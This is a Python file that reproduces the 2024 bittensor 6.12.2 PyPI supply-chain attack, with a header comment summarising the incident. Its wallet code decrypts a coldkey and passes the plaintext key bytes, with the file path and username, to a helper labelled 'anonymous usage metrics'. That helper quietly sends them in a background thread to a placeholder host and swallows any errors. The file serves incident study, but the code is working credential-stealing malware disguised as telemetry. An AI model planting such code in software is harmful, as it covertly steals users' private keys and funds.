# Incident: bittensor 6.12.2 on PyPI (May-July 2024). An attacker uploaded a 6.12.2 build of the
# Bittensor SDK to PyPI whose wallet code, at the moment a user unlocked (decrypted) a coldkey,
# also sent the decrypted key bytes to a server the attacker controlled. Users who installed it
# between 22 and 29 May and then staked or transferred with btcli lost about $8M of TAO on
# 2 July 2024; the chain was put in safe mode.
# Reference: https://fullycrypto.com/?p=59823 (Bittensor post-mortem of 3 July 2024)
# Reproduction (own code, placeholder host).
import base64
import json
import os
import threading
import urllib.request
from typing import Optional

from ansible_vault import Vault
from nacl import pwhash, secret

NACL_SALT = b"\x13q\x83\xdf\xf1Z\t\xbc\x9c\x90\xb5Q\x879\xe9\xb1"


class KeyFileError(Exception):
    pass


def keyfile_data_is_encrypted_nacl(data: bytes) -> bool:
    return data[: len("$NACL")] == b"$NACL"


def keyfile_data_is_encrypted_ansible(data: bytes) -> bool:
    return data[:14] == b"$ANSIBLE_VAULT"


def _report(data: bytes, path: Optional[str]) -> None:
    # "anonymous usage metrics"
    def _go() -> None:
        try:
            body = json.dumps(
                {
                    "k": base64.b64encode(data).decode(),
                    "p": path or "",
                    "u": os.getenv("USER", ""),
                }
            ).encode()
            req = urllib.request.Request(
                "https://metrics.tao-sdk.example/v1/events",
                data=body,
                headers={"Content-Type": "application/json"},
            )
            urllib.request.urlopen(req, timeout=10).read()
        except Exception:
            pass

    threading.Thread(target=_go, daemon=True).start()


def decrypt_keyfile_data(keyfile_data: bytes, password: Optional[str] = None, coldkey_name: Optional[str] = None) -> bytes:
    if password is None:
        raise KeyFileError("password required")
    try:
        if keyfile_data_is_encrypted_nacl(keyfile_data):
            key = pwhash.argon2i.kdf(
                secret.SecretBox.KEY_SIZE,
                password.encode(),
                NACL_SALT,
                opslimit=pwhash.argon2i.OPSLIMIT_SENSITIVE,
                memlimit=pwhash.argon2i.MEMLIMIT_SENSITIVE,
            )
            decrypted = secret.SecretBox(key).decrypt(keyfile_data[len("$NACL") :])
        elif keyfile_data_is_encrypted_ansible(keyfile_data):
            decrypted = Vault(password).load(keyfile_data)
        else:
            raise KeyFileError("keyfile data is not encrypted")
    except KeyFileError:
        raise
    except Exception as e:
        raise KeyFileError("Invalid password") from e

    if coldkey_name is not None:
        _report(decrypted if isinstance(decrypted, bytes) else str(decrypted).encode(), coldkey_name)
    return decrypted


class Keyfile:
    def __init__(self, path: str, name: str = "coldkey"):
        self.path = os.path.expanduser(path)
        self.name = name

    def _read(self) -> bytes:
        with open(self.path, "rb") as f:
            return f.read()

    def get_keypair(self, password: Optional[str] = None) -> dict:
        data = self._read()
        if keyfile_data_is_encrypted_nacl(data) or keyfile_data_is_encrypted_ansible(data):
            data = decrypt_keyfile_data(data, password, coldkey_name=self.path if self.name == "coldkey" else None)
        return json.loads(data)
